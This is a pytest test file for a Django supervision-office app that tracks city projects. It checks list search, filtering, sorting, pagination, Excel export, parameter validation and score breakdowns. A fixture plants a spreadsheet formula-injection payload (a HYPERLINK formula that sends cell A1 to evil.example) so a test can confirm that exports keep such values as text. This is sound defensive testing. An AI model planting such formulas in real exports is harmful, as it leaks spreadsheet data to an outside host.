"""The lists a 督查办 works from (issue 32): every list page searches, filters, sorts and
pages, and its "导出 Excel" holds exactly the rows on screen (every page of them).

One small city (two towns, two departments, two projects) and a second city whose units
must never be offered; every list gets a value that looks like a formula.
"""

import io
import re
from datetime import date, timedelta
from decimal import Decimal
from html import unescape

import pytest
from django.test import Client
from django.utils import timezone, translation
from openpyxl import load_workbook

from guatu.common.listing import cell_text
from guatu.core.status import LIGHT_NAMES
from guatu.org.models import City, Department, Town
from guatu.parks.models import Park
from guatu.parks.views import PARKS
from guatu.progress.labels import light_label
from guatu.progress.models import Blocker, ProgressReport
from guatu.projects.models import Phase, Project
from guatu.supervision.lists import BULLETINS, ESCALATIONS
from guatu.supervision.models import Bulletin, EscalationEvent, Score
from guatu.web.views.lists import BLOCKERS, ITEMS, PROJECTS, REPORTS
from tests.office import office

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
OTHER = {"town": "乙城镇", "department": "乙城交通局", "project": "乙城大道"}


@pytest.fixture
def world(city, towns, departments, users, project, make_item):
    """Items in both towns, reports, blockers, rungs, bulletins and parks; another city."""
    shizhu, qiancang = towns["石柱镇"], towns["前仓镇"]
    jiaotong, ziran = departments["交通局"], departments["自然资源局"]
    project.programme = EVIL
    project.save(update_fields=["programme"])
    second = Project.objects.create(
        city=city,
        code="park",
        name="石柱镇小微企业园",
        start_date=date(2019, 1, 1),
        deadline=date(2020, 12, 31),
        owner_department=ziran,
    )
    phases = list(Phase.objects.all()[:2])
    items = [
        make_item(
            f"a{n}",
            name=f"征地{n}号",
            town=shizhu if n % 2 else qiancang,
            owner_department=jiaotong if n < 3 else ziran,
            phase=phases[n % len(phases)] if phases else None,
            duration_days=5 + n,
        )
        for n in range(6)
    ]
    items.append(make_item("b0", name="=1+1 管线迁改", town=qiancang))
    reporter = users["supervisor"]
    for n, item in enumerate(items[:4]):
        ProgressReport.objects.create(
            work_item=item,
            reported_on=date(2019, 11, 1) + timedelta(days=n),
            percent_complete=Decimal(100 if n == 0 else 25 * n),
            note=EVIL if n == 1 else f"进展{n}",
            reported_by=reporter,
        )
    for n, item in enumerate(items[:5]):
        Blocker.objects.create(
            work_item=item,
            town=item.town,
            owner_department=item.owner_department,
            responsible_person=f"责任人{n}",
            description=EVIL if n == 2 else f"{n + 1}户未签约",
            opened_on=date(2019, 10, 1),
            due_on=date(2019, 10, 10) + timedelta(days=n * 30),
        )
    for n, item in enumerate(items[:4]):
        EscalationEvent.objects.create(
            work_item=item,
            level=["reminder", "notice", "interview", "reminder"][n],
            period=f"2019-W{44 + n}",
            town=item.town,
            department=item.owner_department,
            evidence={"reason": EVIL if n == 0 else f"滞后{n}"},
            issued_by=reporter,
            city=city,
        )
    Bulletin.objects.create(city=city, period="2019-W45", year=2019, content={"title": EVIL})
    Bulletin.objects.create(
        city=city,
        period="2019-W46",
        year=2019,
        number=1,
        status=Bulletin.Status.PUBLISHED,
        published_at=timezone.now(),
        project=second,
        content={"title": "第46周通报", "number_text": "永督〔2019〕1号"},
    )
    for n, town in enumerate((shizhu, qiancang, shizhu)):
        Park.objects.create(
            city=city,
            town=town,
            code=f"park{n}",
            name=f"{town.name}园{n}",
            land_area_mu=Decimal(50 + n),
            floor_area_m2=Decimal(10000 * (n + 1)),
            leading_industries_note=EVIL if n == 1 else "五金",
        )
    other = City.objects.create(name="乙城市", code="330999")
    other_town = Town.objects.create(city=other, name=OTHER["town"], order=1)
    other_department = Department.objects.create(city=other, name=OTHER["department"])
    Project.objects.create(
        city=other,
        code="other",
        name=OTHER["project"],
        start_date=date(2019, 1, 1),
        owner_department=other_department,
    )
    assert other_town.pk
    return {"items": items, "towns": towns, "departments": departments, "project": project}


def client_for(user) -> Client:
    client = Client(raise_request_exception=True)
    client.force_login(user)
    return client


@pytest.fixture
def office_client(world, users):
    return client_for(users["supervisor"])


@pytest.fixture
def small_pages():
    """Two rows a page, so that every list has several pages to walk."""
    specs = (PROJECTS, ITEMS, BLOCKERS, REPORTS, ESCALATIONS, BULLETINS, PARKS)
    before = {spec: spec.per_page for spec in specs}
    for spec in specs:
        object.__setattr__(spec, "per_page", 2)
    yield
    for spec, per_page in before.items():
        object.__setattr__(spec, "per_page", per_page)


def table_rows(html: str) -> list[list[str]]:
    """The rows of the page's list, each a list of its cells' text (actions left out)."""
    start = html.index('<table class="list-table">')
    body = html[html.index("<tbody>", start) : html.index("</tbody>", start)]
    rows = []
    for tr in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S):
        cells = re.findall(r"<td([^>]*)>(.*?)</td>", tr, re.S)
        if any("colspan" in attrs for attrs, _cell in cells):
            continue  # "no rows"
        rows.append(
            [
                unescape(re.sub(r"<[^>]+>", "", cell)).strip()
                for attrs, cell in cells
                if "list-actions" not in attrs
            ]
        )
    return rows


def all_pages(client: Client, path: str, query: str = "") -> list[list[str]]:
    """The rows of every page of the list, following its "next" links."""
    url, rows, seen = f"{path}?{query}", [], 0
    while url:
        answer = client.get(url)
        assert answer.status_code == 200, (url, answer.content[:500])
        html = answer.content.decode()
        rows += table_rows(html)
        found = re.search(r'<a href="([^"]+)" rel="next">', html)
        url = path + unescape(found[1]) if found else None
        seen += 1
        assert seen < 50
    return rows


def export(client: Client, path: str, query: str = ""):
    answer = client.get(f"{path}?{query}&export=xlsx" if query else f"{path}?export=xlsx")
    assert answer.status_code == 200, answer.content[:500]
    assert answer["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(answer.content)).active


def sheet_rows(sheet) -> list[list[str]]:
    """The workbook's rows as the page writes them: a date cell (no time in its format)
    is read back by openpyxl as a datetime at midnight."""

    def value(cell):
        if cell.is_date and "h" not in cell.number_format:
            return cell.value.date()
        return cell.value

    return [[cell_text(value(cell)) for cell in row] for row in sheet.iter_rows(min_row=3)]


#: Each list: its address, a search that keeps some rows, a filter that keeps some, a
#: column to sort by (its index), and a filter + sort for the export.
LISTS = {
    "projects": ("/projects/", "小微", "department={ziran}", "name", 1),
    "items": ("/items/", "征地1", "town={shizhu}", "name", 1),
    "blockers": ("/blockers/", "未签约", "town={shizhu}", "department", 9),
    "reports": ("/reports/", "征地1", "town={shizhu}", "reported_on", 0),
    "escalations": ("/escalations/", "征地2", "level=notice", "item", 2),
    "bulletins": ("/bulletins/", "第46周", "status=draft", "title", 1),
    "parks": ("/parks/", "前仓", "town={shizhu}", "name", 0),
}


def fill(text: str, world) -> str:
    return text.format(
        shizhu=world["towns"]["石柱镇"].pk,
        qiancang=world["towns"]["前仓镇"].pk,
        ziran=world["departments"]["自然资源局"].pk,
    )


@pytest.mark.parametrize("name", list(LISTS))
def test_search_filter_and_sort_narrow_and_order_the_rows(name, world, office_client):
    path, search, filtered, sort, index = LISTS[name]
    everything = all_pages(office_client, path, "state=" if name == "blockers" else "")
    assert len(everything) >= 2, name
    found = all_pages(office_client, path, f"q={search}")
    assert 0 < len(found) < len(everything), name
    assert all(search in " ".join(row) for row in found) or name == "projects"
    kept = all_pages(office_client, path, fill(filtered, world))
    assert 0 < len(kept) < len(everything) or name == "blockers", name
    up = [row[index] for row in all_pages(office_client, path, f"sort={sort}")]
    down = [row[index] for row in all_pages(office_client, path, f"sort=-{sort}")]
    assert up == sorted(up) and down == sorted(down, reverse=True), name


@pytest.mark.parametrize("name", list(LISTS))
def test_the_export_holds_exactly_the_rows_on_screen(name, world, office_client, small_pages):
    path, _search, filtered, sort, _index = LISTS[name]
    for query in ("", f"{fill(filtered, world)}&sort=-{sort}", f"sort={sort}"):
        screen = all_pages(office_client, path, query)
        sheet = export(office_client, path, query)
        assert sheet_rows(sheet) == screen, (name, query)
    # The button says that it exports every page of what is shown (its count).
    page = office_client.get(path).content.decode()
    button = re.search(r'<a class="button list-export" href="([^"]+)" title="([^"]+)"', page)
    assert button and "export=xlsx" in button[1]
    assert str(len(all_pages(office_client, path))) in button[2]


@pytest.mark.parametrize("name", list(LISTS))
def test_a_formula_like_value_stays_text(name, world, office_client):
    path = LISTS[name][0]
    sheet = export(office_client, path, "state=" if name == "blockers" else "")
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] == "="]
    assert risky, name
    assert all(cell.data_type == "s" for cell in risky), name
    assert any(cell.value == EVIL or cell.value.startswith("=1+1") for cell in risky)


@pytest.mark.parametrize("name", list(LISTS))
@pytest.mark.parametrize(
    "query, parameter",
    [
        ("page=abc", "page"),
        ("page=0", "page"),
        ("sort=nonsense", "sort"),
        ("export=csv", "export"),
        ("town=99999999999999999999", "town"),
        ("town=abc", "town"),
        ("project=99999999999999999999", "project"),
        ("status=bogus", "status"),
        ("level=bogus", "level"),
        ("deadline_from=2019-13-01", "deadline_from"),
        ("due_to=tomorrow", "due_to"),
        ("reported_on_from=2019-11-31", "reported_on_from"),
        ("issued_from=x", "issued_from"),
        ("published_to=2019-02-30", "published_to"),
        ("late_finish_from=2019-11-02&late_finish_to=2019-11-01", "late_finish_to"),
    ],
)
def test_a_bad_parameter_answers_400_naming_it(name, query, parameter, world, office_client):
    path = LISTS[name][0]
    answer = office_client.get(f"{path}?{query}")
    if answer.status_code == 200:  # a parameter this list does not read
        return
    assert answer.status_code == 400, (name, query)
    assert parameter in answer.content.decode(), (name, query)


def test_every_list_refuses_junk_of_its_own_parameters(world, office_client):
    refused = {
        "/projects/": "light=purple",
        "/items/": "phase=abc",
        "/blockers/": "state=lost",
        "/reports/": "above_target=yes",
        "/escalations/": "answer=maybe",
        "/bulletins/": "status=lost",
        "/parks/": "town=-1",
    }
    for path, query in refused.items():
        answer = office_client.get(f"{path}?{query}")
        assert answer.status_code == 400, (path, query)
        assert query.split("=")[0] in answer.content.decode()


@pytest.mark.parametrize("role", ["town", "department", "supervisor", "leader"])
def test_filter_choices_are_the_users_own_city(role, world, users):
    client = client_for(users[role])
    for path, *_rest in LISTS.values():
        answer = client.get(path)
        if answer.status_code == 403:
            continue
        page = answer.content.decode()
        assert 'class="list-controls"' in page, path
        for name in OTHER.values():
            assert name not in page, (role, path, name)
        # Another city's town is not a choice: refused like junk.
        other = Town.everywhere.get(name=OTHER["town"]).pk
        if 'name="town"' in page:
            assert client.get(f"{path}?town={other}").status_code == 400


def test_light_filter_uses_the_lights_the_page_shows(world, office_client):
    with translation.override("zh-hans"):
        labels = {light_label(light): light for light in LIGHT_NAMES}
    rows = all_pages(office_client, "/items/")
    assert {labels[row[0]] for row in rows} >= {"red", "done"}
    for light in LIGHT_NAMES:
        kept = all_pages(office_client, "/items/", f"light={light}")
        assert kept == [row for row in rows if labels[row[0]] == light]
    projects = all_pages(office_client, "/projects/")
    for light in LIGHT_NAMES:
        kept = all_pages(office_client, "/projects/", f"light={light}")
        assert kept == [row for row in projects if labels.get(row[0]) == light]


def test_the_blocker_board_shows_the_unresolved_overdue_first(world, office_client):
    rows = all_pages(office_client, "/blockers/")
    # The 问题清单's columns: 时限, 交办单, problem, colour, level, category, item, project,
    # town, department, status (10), resolved on.
    assert rows and rows[0][10].endswith("（已逾期）")
    overdue = [row for row in rows if "已逾期" in row[10]]
    assert rows[: len(overdue)] == overdue


def test_the_reports_list_is_the_office_s_and_the_leaders(world, users):
    assert client_for(users["town"]).get("/reports/").status_code == 403
    assert client_for(users["leader"]).get("/reports/").status_code == 200


# --- scores -------------------------------------------------------------------------------


def test_each_units_breakdown_adds_up_to_its_score(world, city, towns, departments):
    weights = {
        "on_track": 0.6,
        "timeliness": 0.25,
        "blockers": 0.15,
        "escalation": {"reminder": 0.0, "notice": 2.0},
        "adjustment": 2.0,
    }
    cases = [
        (towns["石柱镇"], None, "2019-W45", 0.8333, 0.6667, 1.0, 1, 2.0, 1),
        (towns["石柱镇"], None, "2019-W46", 0.7142, 0.3333, 0.5, 0, 0.0, 0),
        (towns["前仓镇"], None, "2019-W46", 0.1111, 1.0, 0.3333, 2, 4.0, 2),
        (None, departments["交通局"], "2019-W46", 0.5555, 0.7777, 0.6666, 1, 2.0, 0),
    ]
    for town, department, period, share, timely, blockers, rungs, off, moved in cases:
        raw = 100 * (0.6 * share + 0.25 * timely + 0.15 * blockers) - off - 2.0 * moved
        Score.objects.create(
            city=city,
            period=period,
            year=2019,
            town=town,
            department=department,
            score=Decimal(f"{raw:.2f}"),
            parts={
                "on_track": share,
                "timeliness": timely,
                "blockers": blockers,
                "escalations": rungs,
                "escalation_points": off,
                "adjustments": moved,
                "days_moved": 10 * moved,
                "weights": weights,
            },
        )
    client = client_for(office())
    page = client.get("/scores/?year=2019").content.decode()
    units = re.findall(
        r'<tr class="score-unit"><td>\d+</td><td>([^<]+)</td><td class="num score-total">'
        r"([^<]+)</td>.*?</tr>\s*<tr class=\"score-parts\">(.*?)</details>",
        page,
        re.S,
    )
    assert {name for name, _score, _parts in units} == {"石柱镇", "前仓镇", "交通局"}
    for name, score, parts in units:
        points = [Decimal(p) for p in re.findall(r'class="num score-points">([^<]+)<', parts)]
        assert len(points) == 5, name
        assert sum(points) == Decimal(score), (name, points, score)
        assert 'data-rule="escalations"' in parts
    shizhu = next(parts for name, _s, parts in units if name == "石柱镇")
    # 石柱镇: two periods, 1 rung and 1 adjustment in the year; on-track share averaged.
    assert re.search(r'data-rule="escalations"><td>[^<]+</td><td class="num">1<', shizhu)
    assert re.search(r'data-rule="on_track"><td>[^<]+</td><td class="num">77.4%<', shizhu)
